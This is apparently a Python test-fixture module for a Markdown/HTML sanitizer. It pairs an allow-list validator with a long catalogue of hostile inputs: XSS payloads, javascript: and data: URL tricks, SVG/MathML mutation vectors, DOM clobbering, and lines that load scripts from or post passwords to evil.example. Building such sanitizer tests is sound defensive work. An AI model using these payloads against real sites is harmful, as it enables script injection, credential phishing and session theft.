"""What people type who mean harm, or who were careless, and the measure for what may come of it.

`HOSTILE` is Markdown (and HTML, which Markdown lets through). `faults` judges rendered HTML by a list of its
own, written down here once more, so that a slip in the package's list does not pass for correct.
"""

import re
from html.parser import HTMLParser

NO_ATTRIBUTES = (
    "blockquote br caption code del em h3 h4 h5 h6 hr p pre strong table tbody tfoot thead tr ul".split()
)
LINK = re.compile(
    r"https?://[^\s/\\?#][^\s\\]*|mailto:[^\s\\]+|/([^\s/\\][^\s\\]*)?|#t-fn(ref)?-\d+(-\d+)?", re.ASCII
)
EXTERNAL = "nofollow noopener noreferrer ugc"
ALLOWED: dict[str, dict[str, re.Pattern[str]]] = {tag: {} for tag in NO_ATTRIBUTES} | {
    "a": {
        "href": LINK,
        "title": re.compile(".*", re.DOTALL),
        "aria-label": re.compile(r"Back to footnote \d+ in the text(, place \d+)?"),
        "class": re.compile("named|image|footnote-ref|footnote-back"),
        "rel": re.compile(EXTERNAL),
    },
    "li": {"id": re.compile(r"t-fn-\d+")},
    "ol": {"start": re.compile(r"\d{1,9}")},
    "section": {"class": re.compile("footnotes")},
    "span": {"class": re.compile("unknown")},
    "sup": {"id": re.compile(r"t-fnref-\d+(-\d+)?")},
    "td": {"class": re.compile("align-(left|center|right)")},
    "th": {"class": re.compile("align-(left|center|right)")},
}
VOID = {"br", "hr"}
# A tag as this package may write it: nothing unquoted, nothing half finished.
STRICT_TAG = re.compile(r"""</?[a-z][a-z0-9]*(?: [a-z-]+="[^"]*")*>""")


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.open: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")
            return
        for name, value in attrs:
            allowed = ALLOWED[tag].get(name)
            if not allowed or value is None or not allowed.fullmatch(value):
                self.faults.append(f"<{tag} {name}={value!r}>")
        kept = dict(attrs)
        if len(kept) != len(attrs):
            self.faults.append(f"<{tag}> has an attribute twice")
        if (kept.get("href") or "").startswith("http") and kept.get("rel") != EXTERNAL:
            self.faults.append(f"an external link without {EXTERNAL}")
        if tag == "a" and "a" in self.open:
            self.faults.append("a link within a link")
        if "id" in kept:
            self.ids.append(kept["id"])
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> out of place")

    def handle_comment(self, data):
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.faults.append(f"<?{data}>")

    def unknown_decl(self, data):
        self.faults.append(f"<![{data}]>")


def faults(html: str) -> list[str]:
    """What is wrong with HTML that was rendered with the prefix "t": nothing, it is to be hoped."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    wrong = inspector.faults
    wrong += [f"<{tag}> is not closed" for tag in inspector.open]
    if len(set(inspector.ids)) < len(inspector.ids):
        wrong.append(f"the same id twice among {inspector.ids}")
    if re.search("[<>]", STRICT_TAG.sub("", html)):
        wrong.append("an angle bracket that belongs to no tag")
    if re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ue000\ue001]", html):
        wrong.append("a character that HTML may not hold")
    return wrong


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<script><!--\nalert(1)\n//--></script>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script></title>",
    "<textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<div><script>alert(1)</script></div>",
    "> <script>alert(1)</script>",
    "* item <script>alert(1)</script>",
    "|a|<script>alert(1)</script>|\n|-|-|\n|<script>|</script>|",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "*<script>*alert(1)</script>",
    "<b><script>alert(1)</b></script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~ { .x onclick=alert(1) }\nx\n~~~",
]

FOREIGN = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'></use></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>",
    "<svg class='icon icon-for' role=img aria-label=FOR><use href=/static/icons.svg#for></use></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" alt="a">',
    "<img src=x:x onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x`y" onerror=alert(1)>',
    '<img alt="<x" title="/><script>alert(1)</script>">',
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<body onload=alert(1)>",
    "<a onmouseover=alert(1)>x</a>",
    "<a href=/ onclick=alert(1)>x</a>",
    "<a href='/'onclick=alert(1)>x</a>",
    '<a href="/" "onclick=alert(1)>x</a>',
    "<a/href=/ /onclick=alert(1)>x</a>",
    "<b onclick=alert(1)>x</b>",
    "<p onfocus=alert(1) tabindex=0 autofocus contenteditable>x</p>",
    "<p style=animation-name:x onanimationend=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<div onpointerover=alert(1)>x</div>",
    "<table background=javascript:alert(1) onclick=alert(1)><tr><td onclick=alert(1)>x</table>",
    "<ol start='1 onclick=alert(1)'><li value=3 onclick=alert(1)>x</ol>",
    "<code onclick=alert(1)>x</code>",
    "<br onclick=alert(1)>",
    "<hr onclick=alert(1) style=position:fixed>",
    "<sup onclick=alert(1) id=x>1</sup>",
    "<x onclick=alert(1)>x</x>",
    "<xss/contenteditable/autofocus/onfocus=alert(1)>",
]

LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:image/svg+xml,x)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](jar:https://evil.example!/x)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example)",
    "[x](/\t/evil.example)",
    "[x](<\t//evil.example>)",
    "[x](http:evil.example)",
    "[x](https:///evil.example)",
    "[x](http://[)",
    "[x](http://x:99999999/)",
    "[x](?next=javascript:alert(1))",
    "[x](#top)",
    "[x](relative/path)",
    "[x](mailto:)",
    "[x](:javascript:alert(1))",
    "[x](/ok\"onmouseover=alert(1)//)",
    "[x](/ok 'title\" onmouseover=\"alert(1)')",
    '[x](/ok "title\\" onmouseover=alert(1) x=\\"")',
    '[x](/ok "<script>alert(1)</script>")',
    "[x](/ok '\"><img src=x onerror=alert(1)>')",
    "[x](https://ok.example/?a=\"><script>alert(1)</script>)",
    "[x](https://ok.example/'onclick='alert(1))",
    "[<script>alert(1)</script>](/ok)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[![x](https://pics.example/x.png)](https://ok.example/)",
    "[a [b](/b) c](/a)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: /ok \"\\\" onclick=alert(1) \\\"\"",
    "[x]\n\n[x]: data:text/html,x 'y'",
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    "<data:text/html,x>",
    "<https://ok.example/\"onclick=alert(1)>",
    "<me@evil.example?subject=\"onclick=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#x6a;avascript:alert(1)'>x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=/ok href=javascript:alert(1)>x</a>",
    "<a href=javascript:alert(1) href=/ok>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href=/ok target=_blank rel=opener ping=https://evil.example download>x</a>",
    "<a href=https://ok.example rel=me>x</a>",
    "<a xlink:href=javascript:alert(1) href=/ok>x</a>",
    "<a href=/a><a href=/b>x</a></a>",
    "<a href=/a><table><tr><td><a href=/b>x</table>",
    "<a href=/a>unclosed\n\nand on",
    "<area href=javascript:alert(1)><map name=x><area href=/ok></map>",
    "https://ok.example/\"onmouseover=alert(1)",
    "https://ok.example/'><script>alert(1)</script>",
    "https://ok.example/[x](javascript:alert(1))",
    "javascript:alert(1)//https://ok.example/",
    "https://user:pass@evil.example@ok.example/",
    "http://\u202eevil.example",
    "[[\"><script>alert(1)</script>]]",
    "[[@x\" onclick=alert(1)]]",
    "[[known]] [[javascript]] [[elsewhere]] [[breaking]] @known @breaking's",
    "[[known](javascript:alert(1))]",
]  # fmt: skip

IMAGES = [
    "![x](https://pics.example/x.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](https://pics.example/x.png)',
    "![<script>alert(1)</script>](https://pics.example/x.png)",
    "![x](https://pics.example/x.png '\" onerror=alert(1) \"')",
    "![x][1]\n\n[1]: javascript:alert(1)",
    "![](https://pics.example/x.png)",
    "![](x\" onerror=\"alert(1))",
    "<img src=https://tracker.example/1.gif width=1 height=1>",
    "<img srcset='https://tracker.example/1.gif 1x'>",
    "<img lowsrc=https://tracker.example/ dynsrc=x>",
    "<picture><source srcset=https://tracker.example/><img src=x></picture>",
    "<image src=x onerror=alert(1)>",
    "<img src='https://pics.example/x.png' alt='a\" onclick=\"b'>",
]  # fmt: skip

LOADING = [
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example)}",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p style=position:fixed;inset:0;z-index:9999>x</p>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
    "<base href=https://evil.example/>",
    "<base target=_blank>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=https://evil.example/x.swf></object>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x archive=https://evil.example/></applet>",
    "<video src=https://evil.example/x.mp4 autoplay poster=https://evil.example/></video>",
    "<audio src=https://evil.example/x.ogg autoplay></audio>",
    "<bgsound src=https://evil.example/x.mid>",
    "<input type=image src=https://evil.example/x.png>",
    "<form action=https://evil.example/><input name=password><button>sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<portal src=https://evil.example/>",
    "<dialog open>x</dialog>",
    "<custom-element is=x>x</custom-element>",
    "<table><tr><td background=https://evil.example/x.png bgcolor=red>x</table>",
    "<body background=https://evil.example/x.png>",
    "<q cite=https://evil.example/>x</q><blockquote cite=javascript:alert(1)>x</blockquote>",
    "<html manifest=https://evil.example/><head><title>x</title></head><body class=x>",
]  # fmt: skip

BREAKING = [
    "</div></div></main></body></html>",
    "</p></section></article>x",
    "<div><div><div>",
    "<b><i><u>never closed",
    "<b>a\n\nb\n\n* c",
    "<ul><li>a<li>b",
    "<table><tr><td>a<td>b<tr><td>c",
    "<table>thrown out<tr>and this<td>in</td>and that</tr></table>after",
    "<table><b>x</b><tr><td><table><tr><td>y</table></table>",
    "<td>no table</td><tr><li>no list</li>",
    "<li><ul></li></ul>",
    "<p><table><p></table></p>",
    "<b><p></b></p>",
    "<a href=/x><b></a></b>",
    "<em><strong></em></strong>",
    "<h1><h2>x</h1></h2>",
    "<pre><code></pre></code>",
    "<blockquote><p></blockquote></p>",
    "<!-- never closed",
    "a <!-- never closed\n\nb",
    "<!-->x<!--->y<!---->z",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!DOCTYPE html><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<?\n<script>alert(1)</script>",
    "<div><?x><img src=x onerror=alert(1)>?></div>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div>\n<![CDATA[x]]>\n</div>",
    "<a title='unclosed",
    "<a title=\"unclosed>\n\nx",
    "<",
    "<<<<<<",
    "</",
    "</>",
    "< script>alert(1)</ script>",
    "<a<b<c>",
    "<p<script>alert(1)</script>",
    "&",
    "&#0;&#xD800;&#x110000;&#99999999999;&nosuch;",
    "\x00\x01\x02\x03\x0b\x0c\x1b\x7f\x85\x9f",
    "\ue0000\ue001 \ue000\ue001 \ue000999\ue001 &#xE000;0&#xE001;",
    "<a href=/ title='\ue0000\ue001'>x</a>",
    "\ud800 \udfff \ufffe \uffff",
    "\u202e right to left \u2066 \u2028 \u2029",
    "klzzwxh:0000 wzxhzdk:0 \x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03",
    "<pre>\n\n\n</pre>",
    "<br></br></br><hr></hr></p>",
    "<select><option><b>x</select>y",
    "<frameset><noframes><b>x",
    "<optgroup><option><template><td>",
    "<ruby><rt>x<rp>y",
    "<dl><dt>x<dd>y",
    "<fieldset><legend>x",
    "<caption>x<col><colgroup><tbody>",
    "<table><caption>a<table><caption>b</table>c</caption><td>d</table>",
]  # fmt: skip

CLOBBERING = [
    "<a id=location name=cookie href=/x>x</a>",
    "<form id=document name=body><input name=action></form>",
    "<p id=t-fn-1 class=vote>x</p>",
    "<li id=t-fn-1>x</li>",
    "<ul><li id=t-fn-1>a<li id=t-fn-1>b</ul>",
    "<sup id=fnref:1>x</sup> a[^1] <sup id=t-fnref-1>y</sup>\n\n[^1]: z",
    "<div class=footnote id=x><ol><li id=fn:1>x</li></ol></div>\n\na[^1]\n\n[^1]: b",
    "<section class=footnotes><p>x</p></section>",
    "a[^1]\n\n[^1]: b</div></section><p>c",
    "a[^1]\n\n[^1]: <section>b <div>c",
    "<a class=named href=/players/alice/>Alice</a>",
    "<span class=unknown id=x>x</span><span class='icon-ignored' title='y'>:for:</span>",
    "<code class='language-x' id=y>z</code>",
    "# x {#location .y onclick=alert(1)}",
    "a[^x][^x][^x] [^x]\n\n[^x]: twice[^x]",
    "a[^\"><script>]\n\n[^\"><script>]: x",
    "a[^2:3][^fnref:1][^' onclick=alert(1)]\n\n[^2:3]: x\n[^fnref:1]: y\n[^' onclick=alert(1)]: z",
    "[^1]: only defined\n\n[^1]: and again",
    "a[^1]\n\n///Footnotes Go Here///\n\n[^1]: <table>x[^1]",
    "|a|\n|:-:|\n|b|\n\n<td align='left onclick=alert(1)'>x</td>",
    "<table><tr><td align=justify class=align-left colspan=9999>x</table>",
    "<ol start=99999999999999999999 reversed type=x><li>x</ol>",
    "<ol start=-5><li>x</ol>",
]  # fmt: skip

HOSTILE = [*SCRIPTS, *FOREIGN, *HANDLERS, *LINKS, *IMAGES, *LOADING, *BREAKING, *CLOBBERING]
